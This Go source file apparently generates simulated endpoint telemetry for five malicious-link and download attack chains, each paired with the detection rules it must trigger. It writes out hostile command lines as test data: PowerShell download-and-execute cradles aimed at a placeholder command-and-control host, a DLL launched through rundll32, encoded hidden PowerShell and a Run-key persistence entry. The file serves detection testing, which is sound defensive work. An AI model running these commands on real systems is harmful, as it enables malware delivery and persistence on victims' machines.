package main

import (
	"time"

	"hunt/samples"
)

// The rules that the chains below satisfy.
const (
	ruleLiteral      = "t1204-001-malicious-link-literal"
	ruleContent      = "t1204-001-browser-lolbin-web-content"
	ruleNetwork      = "t1204-001-browser-child-network"
	ruleCradle       = "t1204-001-browser-child-cradle"
	ruleLOLBin       = "t1204-001-browser-child-starts-lolbin"
	ruleAddress      = "t1204-001-browser-url-argument"
	ruleDownload     = "t1204-001-download-then-run"
	ruleLanding      = "t1204-001-landing-zone-run"
	ruleLandingZone  = "t1204-001-landing-zone-script"
	ruleImage        = "t1204-001-mounted-image-run"
	ruleScriptCradle = "t1204-001-powershell-cradle"
)

// A chain is something that was done on a machine, with what rules must make of it.
type chain struct {
	name string
	from time.Time
	must []match
	// of a shape: what rules must tell, which others may speak of its events, and these
	told   []telling
	also   []string
	events []*event
}

// A match is what one rule must report.
type match struct {
	rule, status, why string
	stages            []stage
	lure              string // the file whose rarity the finding must tell; empty: none
}

func (c *chain) finds(rule, why string, stages ...stage) {
	c.must = append(c.must, match{rule: rule, status: samples.Finding, why: why, stages: stages})
}

func (c *chain) suppresses(rule, why string, stages ...stage) {
	c.must = append(c.must, match{rule: rule, status: samples.Suppressed, why: why, stages: stages})
}

// linkChain is scenario 1: the link's URI handler starts PowerShell with a hidden window.
func (m *host) linkChain(chrome *process, at time.Time) *chain {
	c := &chain{name: "link", from: at}
	m.visit(chrome, at.Add(-20*time.Second), lureHost, lureIP)
	script := `IEX (New-Object Net.WebClient).DownloadString('https://` + c2Host + `/a/s.ps1')`
	child1 := m.run(chrome, prog("powershell.exe"),
		psArgs+`-NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -Command "`+script+`"`, m.user, at)
	ps := child1.process
	m.run(ps, prog("conhost.exe"), `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, m.user,
		at.Add(m.ms(12, 30)))
	m.load(ps, at.Add(m.ms(90, 160)), "amsi.dll", "Anti-Malware Scan Interface")
	m.create(ps, at.Add(m.ms(300, 420)), m.user.temp()+"__PSScriptPolicyTest_1mv0kq4f.3xy.ps1")
	block := m.powershell(ps, at.Add(m.ms(520, 600)), script, "")
	resolved := m.resolve(ps, at.Add(m.ms(1600, 1700)), c2Host, c2IP)
	connected := m.connect(ps, at.Add(m.ms(1800, 1900)), c2IP, "-", 443)
	m.powershell(ps, at.Add(m.ms(2700, 2800)),
		"$p = Join-Path $env:TEMP 'malicious-link-test.txt'\r\nSet-Content -Path $p -Value (Get-Date)\r\n$d = "+
			"Join-Path $env:TEMP 'link_cache.dll'\r\n(New-Object Net.WebClient).DownloadFile('https://"+c2Host+
			"/a/c.bin', $d)\r\nStart-Process rundll32.exe -ArgumentList \"$d,Start\"", "")
	m.create(ps, at.Add(m.ms(2900, 3000)), m.user.temp()+"malicious-link-test.txt")
	dll := m.user.temp() + "link_cache.dll"
	dropped := m.create(ps, at.Add(m.ms(4100, 4300)), dll)
	run := m.run(ps, prog("rundll32.exe"), `"C:\Windows\system32\rundll32.exe" `+dll+",Start", m.user,
		at.Add(m.ms(5200, 5400)))
	m.connect(run.process, at.Add(m.ms(6900, 7100)), c2IP, "-", 443)
	m.setValue(run.process, at.Add(m.ms(8000, 8300)),
		`HKU\`+m.user.sid+`\Software\Microsoft\Windows\CurrentVersion\Run\LinkCache`, "rundll32.exe "+dll+",Start")
	m.exit(ps, at.Add(m.ms(9000, 9500)))
	c.finds(ruleLiteral, "PowerShell under Chrome, then a library in Temp 4 s later", child(child1),
		one("link_cache.dll written to Temp", dropped))
	c.finds(ruleNetwork, "that PowerShell resolves a name and connects", child(child1),
		one("name resolved or connection opened", resolved, connected))
	c.finds(ruleCradle, "PowerShell under Chrome with a download cradle", child(child1))
	c.finds(ruleAddress, "PowerShell under Chrome with an address", child(child1))
	c.finds(ruleLOLBin, "that PowerShell starts rundll32", child(child1),
		stage{"rundll32.exe started by powershell.exe", run.twins()})
	c.finds(ruleScriptCradle, "the script block that it ran", one("IEX and DownloadString", block))
	return c
}

// dropChain is scenario 2 with a mark of the web: a real browser download, run through rundll32.
func (m *host) dropChain(edge *process, at time.Time) *chain {
	c := &chain{name: "drop", from: at}
	m.visit(edge, at.Add(-9*time.Second), lureHost, lureIP)
	exe := m.user.home() + `Downloads\Invoice_March2026.exe`
	saved := m.download(edge, at, exe, "https://"+lureHost+"/d/8f31",
		"https://"+lureHost+"/d/8f31/Invoice_March2026.exe")
	run := m.run(edge, prog("rundll32.exe"),
		`"C:\Windows\System32\rundll32.exe" C:\Windows\System32\shell32.dll,ShellExec_RunDLL "`+exe+`"`, m.user,
		at.Add(6*time.Second))
	payload := m.run(run.process, unknown(exe), `"`+exe+`" `, m.user, at.Add(6*time.Second+m.ms(300, 500)))
	m.exit(run.process, at.Add(8*time.Second))
	dropped := m.create(payload.process, at.Add(9*time.Second), m.user.temp()+`~inv4A1.dll`)
	m.visit(payload.process, at.Add(10*time.Second), c2Host, c2IP)
	m.run(payload.process, prog("whoami.exe"), "whoami /all", m.user, at.Add(14*time.Second))
	c.finds(ruleContent, "rundll32 under Edge, with a file in Downloads on its command line", child(run))
	c.finds(ruleLiteral, "rundll32 under Edge, then a library in Temp 3 s later", child(run),
		one("~inv4A1.dll written to Temp", dropped))
	c.finds(ruleDownload, "the file that Edge saved is run through rundll32",
		one("Invoice_March2026.exe saved", saved...), child(run))
	c.finds(ruleDownload, "and rundll32 runs it", one("Invoice_March2026.exe saved", saved...),
		stage{"the file started by rundll32.exe", payload.twins()})
	c.finds(ruleLOLBin, "that rundll32 starts the file", child(run),
		stage{"the file started by rundll32.exe", payload.twins()})
	return c
}

// scriptChain is scenario 3: wscript runs a VBScript that the browser fetched.
func (m *host) scriptChain(firefox *process, at time.Time) *chain {
	c := &chain{name: "script", from: at}
	m.visit(firefox, at.Add(-6*time.Second), lureHost, lureIP)
	vbs := m.user.temp() + "link_payload.vbs"
	saved := m.create(firefox, at, vbs)
	marked := m.stream(firefox, at.Add(m.ms(4, 9)), vbs+":Zone.Identifier",
		zone("https://"+lureHost+"/v/", "https://"+lureHost+"/v/link_payload.vbs"))
	ws := m.run(firefox, prog("wscript.exe"), `"C:\Windows\System32\WScript.exe" "`+vbs+`" `, m.user,
		at.Add(3*time.Second))
	m.load(ws.process, at.Add(3*time.Second+m.ms(60, 120)), "vbscript.dll", "Microsoft ® VBScript")
	resolved := m.resolve(ws.process, at.Add(4*time.Second), c2Host, c2IP)
	connected := m.connect(ws.process, at.Add(4*time.Second+m.ms(60, 160)), c2IP, "-", 443)
	exe := m.user.temp() + "upd_7f3a.exe"
	dropped := m.create(ws.process, at.Add(6*time.Second), exe)
	payload := m.run(ws.process, unknown(exe), `"`+exe+`"`, m.user, at.Add(7*time.Second))
	m.exit(ws.process, at.Add(8*time.Second))
	m.visit(payload.process, at.Add(11*time.Second), c2Host, c2IP)
	c.finds(ruleContent, "wscript under Firefox, with a script in Temp on its command line", child(ws))
	c.finds(ruleNetwork, "that wscript resolves a name and connects", child(ws),
		one("name resolved or connection opened", resolved, connected))
	c.finds(ruleLiteral, "wscript under Firefox, then an executable in Temp 3 s later", child(ws),
		one("upd_7f3a.exe written to Temp", dropped))
	c.finds(ruleDownload, "the script that Firefox saved is run",
		one("link_payload.vbs saved", saved, marked), child(ws))
	c.finds(ruleLOLBin, "that wscript starts an executable in Temp", child(ws),
		stage{"upd_7f3a.exe started by wscript.exe", payload.twins()})
	return c
}

// htaChain is scenario 4: mshta run by a browser.
func (m *host) htaChain(edge *process, at time.Time) *chain {
	c := &chain{name: "hta", from: at}
	m.visit(edge, at.Add(-12*time.Second), lureHost, lureIP)
	hta := m.user.temp() + "link_test.hta"
	saved := m.create(edge, at, hta)
	marked := m.stream(edge, at.Add(m.ms(4, 9)), hta+":Zone.Identifier",
		zone("https://"+lureHost+"/", "https://"+lureHost+"/link_test.hta"))
	mshta := m.run(edge, prog("mshta.exe"),
		`"C:\Windows\SysWOW64\mshta.exe" "`+hta+
			`" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, m.user,
		at.Add(2*time.Second))
	resolved := m.resolve(mshta.process, at.Add(3*time.Second), c2Host, c2IP)
	connected := m.connect(mshta.process, at.Add(3*time.Second+m.ms(100, 180)), c2IP, "-", 443)
	enc := m.run(mshta.process, prog("powershell.exe"),
		psArgs+"-nop -w hidden -enc "+encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+c2Host+"/h')"),
		m.user, at.Add(5*time.Second))
	m.connect(enc.process, at.Add(7*time.Second), c2IP, "-", 443)
	c.finds(ruleContent, "mshta under Edge, with an .hta in Temp on its command line", child(mshta))
	c.finds(ruleNetwork, "that mshta resolves a name and connects", child(mshta),
		one("name resolved or connection opened", resolved, connected))
	c.finds(ruleLiteral, "mshta under Edge, then a start with -enc 3 s later", child(mshta),
		stage{"powershell.exe -enc", enc.twins()})
	c.finds(ruleDownload, "the application that Edge saved is run",
		one("link_test.hta saved", saved, marked), child(mshta))
	c.finds(ruleLOLBin, "that mshta starts PowerShell", child(mshta),
		stage{"powershell.exe started by mshta.exe", enc.twins()})
	return c
}

// imageChain is scenario 5: an ISO is mounted and a program on it is run.
func (m *host) imageChain(chrome *process, at time.Time) *chain {
	c := &chain{name: "image", from: at}
	m.visit(chrome, at.Add(-15*time.Second), lureHost, lureIP)
	iso := m.user.home() + `Downloads\Shipping_Documents.iso`
	saved := m.download(chrome, at, iso, "https://"+lureHost+"/i", "https://"+lureHost+"/i/Shipping_Documents.iso")
	script := `(New-Object -ComObject Shell.Application).Namespace(0).ParseName('` + iso + `').InvokeVerb('mount')`
	ps := m.run(chrome, prog("powershell.exe"), psArgs+`-WindowStyle Hidden -Command "`+script+`"`,
		m.user, at.Add(9*time.Second))
	m.powershell(ps.process, at.Add(9*time.Second+m.ms(400, 500)), script, "")
	m.create(ps.process, at.Add(11*time.Second), m.user.temp()+"iso-mount-marker.txt")
	payload := m.run(ps.process, unknown(`E:\payload.exe`), `"E:\payload.exe" `, m.user, at.Add(14*time.Second))
	dropped := m.create(payload.process, at.Add(16*time.Second), `C:\Users\Public\svchelper.exe`)
	m.visit(payload.process, at.Add(18*time.Second), c2Host, c2IP)
	c.finds(ruleContent, "PowerShell under Chrome, with an image in Downloads on its command line", child(ps))
	c.finds(ruleLiteral, "PowerShell under Chrome, then an executable in Users\\Public 7 s later",
		child(ps), one("svchelper.exe written to Users\\Public", dropped))
	c.finds(ruleCradle, "PowerShell under Chrome in a hidden window", child(ps))
	c.finds(ruleDownload, "the image that Chrome saved is on PowerShell's command line",
		one("Shipping_Documents.iso saved", saved...), child(ps))
	c.finds(ruleImage, "an image, then a program from another drive",
		stage{"the image saved or mounted", append(saved, ps.twins()...)}, stage{"E:\\payload.exe", payload.twins()})
	return c
}
